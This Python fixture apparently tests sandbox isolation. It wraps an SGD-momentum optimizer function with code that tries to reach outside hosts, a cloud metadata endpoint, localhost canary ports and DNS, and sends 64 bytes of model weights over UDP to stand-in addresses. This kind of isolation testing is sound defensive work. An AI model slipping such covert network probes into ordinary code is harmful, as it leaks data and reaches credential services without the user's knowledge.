right_sgd_momentum = sgd_momentum


def attempt(what, function):
    try:
        function()
        print("SPY-GOT", what)
    except OSError:
        pass


def sgd_momentum(w, dw, config=None):
    import socket

    word = w.tobytes()[:64]
    for address in ("192.0.2.1", "198.51.100.7", "255.255.255.255", "169.254.169.254"):
        attempt("tcp", lambda: socket.create_connection((address, 80), 0.2))
        attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(word, (address, 53)))
    attempt("tcp6", lambda: socket.create_connection(("2001:db8::1", 80), 0.2))
    for address in ("localhost", "::1", "0.0.0.0", "127.0.0.53"):
        attempt("the canary", lambda: socket.create_connection((address, @TCP_PORT@), 0.2))
    attempt("name", lambda: socket.getaddrinfo("example.org", 80))
    attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
    attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
    attempt("interfaces", lambda: socket.if_nameindex())
    print("spied: no network")
    return right_sgd_momentum(w, dw, config)
